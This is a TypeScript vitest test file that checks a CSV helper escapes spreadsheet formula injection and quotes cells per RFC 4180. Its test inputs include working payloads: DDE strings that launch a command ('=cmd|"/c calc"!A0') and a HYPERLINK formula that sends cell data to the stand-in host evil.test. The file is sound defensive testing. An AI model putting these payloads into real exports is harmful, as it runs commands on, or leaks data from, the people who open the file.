import { describe, expect, test } from "vitest";
import { csvCell, csvLine } from "./csv";

describe("a cell that a spreadsheet would run is text", () => {
  const cells: [given: string, cell: string][] = [
    ["=1+1", "'=1+1"],
    ['=cmd|"/c calc"!A0', `"'=cmd|""/c calc""!A0"`],
    ['=HYPERLINK("http://evil.test?x="&A1,"ok")', `"'=HYPERLINK(""http://evil.test?x=""&A1,""ok"")"`],
    ["+1234", "'+1234"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-1+1", "'-1+1"],
    ["-5", "'-5"],
    ["@SUM(1+1)", "'@SUM(1+1)"],
    ["\t=1+1", `"'\t=1+1"`.replaceAll('"', "")],
    ["\r=1+1", `"'\r=1+1"`],
    ["\n=1+1", `"'\n=1+1"`],
    ["\u{FF1D}1+1", "'\u{FF1D}1+1"],
    ["\u{FF0B}1", "'\u{FF0B}1"],
    ["\u{FF0D}1", "'\u{FF0D}1"],
    ["\u{FF20}SUM(1)", "'\u{FF20}SUM(1)"],
    ["=", "'="],
    ["--", "'--"],
    ["=1,2", `"'=1,2"`],
    ["=\u{202E}evil", "'=\u{202E}evil"],
    ["@", "'@"],
  ];
  test.each(cells)("%j", (given, cell) => expect(csvCell(given)).toBe(cell));
});

describe("everything else is left as it is", () => {
  test.each([
    [-5, "-5"],
    [0, "0"],
    [1.5, "1.5"],
    [-0.25, "-0.25"],
    [true, "true"],
    [null, ""],
    [undefined, ""],
    ["", ""],
    ["a=b", "a=b"],
    ["user@example.test", "user@example.test"],
    ["INV-0001", "INV-0001"],
    ['she said "no"', '"she said ""no"""'],
    ["a,b", '"a,b"'],
    ["two\r\nlines", '"two\r\nlines"'],
    [" padded ", '" padded "'],
    [{ "=a": "=1" }, '"{""=a"":""=1""}"'],
    [["x", 1], '"[""x"",1]"'],
  ])("%j", (given, cell) => expect(csvCell(given)).toBe(cell));
});

test("a line ends with CRLF and every cell can be read back", () => {
  const values = ["a,b", 'c"d', "e\nf", 7, null];
  const line = csvLine(values);
  expect(line).toBe('"a,b","c""d","e\nf",7,\r\n');
  expect(readBack(line)).toEqual(["a,b", 'c"d', "e\nf", "7", ""]);
});

/** A reader of RFC 4180 of this test's own. */
function readBack(line: string): string[] {
  const cells = [...line.slice(0, -2).matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)];
  return cells.map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "");
}
